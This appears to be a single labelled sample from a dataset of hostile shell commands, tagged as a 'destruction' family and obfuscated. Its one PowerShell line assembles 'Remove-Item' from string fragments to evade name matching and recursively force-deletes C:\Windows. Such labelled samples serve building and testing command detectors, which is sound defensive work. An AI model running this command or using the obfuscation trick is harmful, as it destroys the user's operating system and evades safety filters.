# description: Calls Remove-Item through a concatenated command name on C:\Windows.
# family: destruction
# obfuscated: yes
& ('Remove-' + 'Item') -Path 'C:\Windows' -Recurse -Force
